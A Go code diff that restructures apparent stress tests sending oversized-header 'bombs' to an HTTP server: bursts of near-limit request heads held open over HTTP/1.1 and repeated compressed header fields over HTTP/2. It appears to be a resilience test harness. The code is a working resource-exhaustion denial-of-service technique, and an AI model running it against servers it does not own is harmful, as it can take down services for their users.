@@ -59,95 +59,110 @@ func (b bomb) path() string {
 	return uploads + "0123456789abcdef0123456789abcdef"
 }
 
-// over1 sends 120 of them at a time, each on a connection of its own.
-func over1(bombs []bomb) func(*arena) error {
-	return func(a *arena) error {
-		return a.again(func() error {
-			conns := make([]net.Conn, 120)
-			defer func() {
-				for _, conn := range conns {
-					if conn != nil {
-						a.drop(conn)
-					}
-				}
-			}()
-			const late = 100     // bytes, that come when the others have come of all
-			paced := a.pace(200) // 400 Mbit/s
-			for i := range conns {
-				paced.step()
-				text := bombs[i%len(bombs)].text(a)
-				conn, err := a.say(text[:len(text)-late])
-				if err != nil {
-					return err
-				}
-				conns[i] = conn
+// atOnce is how many of each bomb are held at the same time, in bursts of four
+// kinds: 120 heads, each near the limit.
+const (
+	atOnce = 30
+	kinds  = 4
+)
+
+// over1 sends bursts of all kinds over HTTP/1.1, each head on a connection of
+// its own.
+func over1(a *arena) error {
+	return a.again(func() error {
+		paced := a.pace(200) // 400 Mbit/s
+		for some := range slices.Chunk(bombs, kinds) {
+			if err := burst(a, paced, some); err != nil {
+				return err
 			}
-			for i, conn := range conns {
-				text := bombs[i%len(bombs)].text(a)
-				_, _ = io.WriteString(conn, text[len(text)-late:])
-			}
-			for _, conn := range conns {
-				conn.SetReadDeadline(time.Now().Add(patience))
-				io.Copy(io.Discard, io.LimitReader(conn, 12)) // the status line
-			}
-			return nil
-		})
+		}
+		a.set()
+		return nil
+	})
+}
+
+// burst sends atOnce heads of each kind, all but their ends, and then the ends.
+func burst(a *arena, paced *pace, some []bomb) error {
+	type charge struct {
+		conn net.Conn
+		end  string
 	}
-}
-
-// text is a request of HTTP/1.1 with it.
-func (b bomb) text(a *arena) string {
-	value := b.begin + strings.Repeat(b.piece, bombSize/len(b.piece))
-	return a.head(b.method, b.path(), append(b.lines[:len(b.lines):len(b.lines)], b.header+": "+value, "Content-Length: 0")...)
-}
-
-// over2 sends 120 of them on one connection, by fields that the two sides
-// remember: a KiB on the wire is a value of 4 KiB many times.
-func over2(bombs []bomb) func(*arena) error {
-	return func(a *arena) error {
-		return a.again(func() error {
-			c, err := a.frames(framing{refill: true})
+	var charges []charge
+	defer func() {
+		for _, c := range charges {
+			a.drop(c.conn)
+		}
+	}()
+	for _, b := range some {
+		value := b.begin + strings.Repeat(b.piece, bombSize/len(b.piece))
+		text := a.head(b.method, b.path(), append(b.lines, b.header+": "+value, "Content-Length: 0")...)
+		cut := len(text) - 100
+		for i := 0; i < atOnce && paced.step(); i++ {
+			conn, err := a.say(text[:cut])
 			if err != nil {
 				return err
 			}
-			defer a.drop(c.conn)
-			n := 120
-			for i := range n {
-				b := bombs[i%len(bombs)]
-				if _, err := c.open(b.method, b.path(), true, b.fields()...); err != nil {
-					return err
-				}
-			}
-			if err := c.flush(); err != nil {
+			charges = append(charges, charge{conn, text[cut:]})
+		}
+	}
+	for _, c := range charges {
+		_, _ = io.WriteString(c.conn, c.end)
+	}
+	for _, c := range charges {
+		c.conn.SetReadDeadline(time.Now().Add(patience))
+		io.Copy(io.Discard, io.LimitReader(c.conn, 12)) // the status line
+	}
+	return nil
+}
+
+// over2 sends as many over connections of HTTP/2, a burst on each, by fields
+// that the two sides remember: a KiB on the wire is a value of 4 KiB many times.
+func over2(a *arena) error {
+	allowed := slices.DeleteFunc(slices.Clone(bombs), func(b bomb) bool { return b.name == "many names" || b.name == "Connection" })
+	return a.again(func() error {
+		for some := range slices.Chunk(allowed, kinds) {
+			if err := burst2(a, some); err != nil {
 				return err
 			}
-			// A server that has enough of it ends the connection.
-			for c.answers.Load() < int64(n) && !c.ended() && !a.over() {
-				a.rest(10 * time.Millisecond)
+		}
+		a.set()
+		return nil
+	})
+}
+
+func burst2(a *arena, some []bomb) error {
+	c, err := a.frames(framing{refill: true})
+	if err != nil {
+		return err
+	}
+	defer a.drop(c.conn)
+	n := int64(0)
+	for _, b := range some {
+		lines := append([]string{}, b.lines...)
+		if b.begin != "" {
+			lines = append(lines, b.header+": "+b.begin+strings.Repeat(b.piece, 100))
+		}
+		piece := b.header + ": " + strings.Repeat(b.piece, 3900/len(b.piece))
+		lines = append(lines, slices.Repeat([]string{piece}, bombSize/4000)...)
+		for range atOnce {
+			if _, err := c.open(b.method, b.path(), true, lines...); err != nil {
+				return nil // the server has had enough of the connection
 			}
-			return nil
-		})
+			n++
+		}
 	}
+	if err := c.flush(); err != nil {
+		return nil
+	}
+	for c.answers.Load() < n && !c.ended() && !a.over() {
+		a.rest(10 * time.Millisecond)
+	}
+	return nil
 }
 
-// fields are those of a request of HTTP/2 with it.
-func (b bomb) fields() []string {
-	lines := slices.Clone(b.lines)
-	if b.begin != "" {
-		lines = append(lines, b.header+": "+b.begin+strings.Repeat(b.piece, 100))
-	}
-	piece := b.header + ": " + strings.Repeat(b.piece, 3900/len(b.piece))
-	for range bombSize / 4000 {
-		lines = append(lines, piece)
-	}
-	return lines
-}
-
-// headerAttacks are the worst one, and all by turns.
 func headerAttacks() []attack {
-	over2Too := slices.DeleteFunc(slices.Clone(bombs), func(b bomb) bool { return b.name == "many names" || b.name == "Connection" })
 	return []attack{
-		{"HTTP1 Forwarded", over1(bombs[:1])}, {"HTTP1 all headers", over1(bombs)},
-		{"HTTP2 Forwarded", over2(bombs[:1])}, {"HTTP2 all headers", over2(over2Too)},
+		{"headers over HTTP/1.1", over1, 3500 * time.Millisecond},
+		{"headers over HTTP/2", over2, time.Second},
 	}
 }
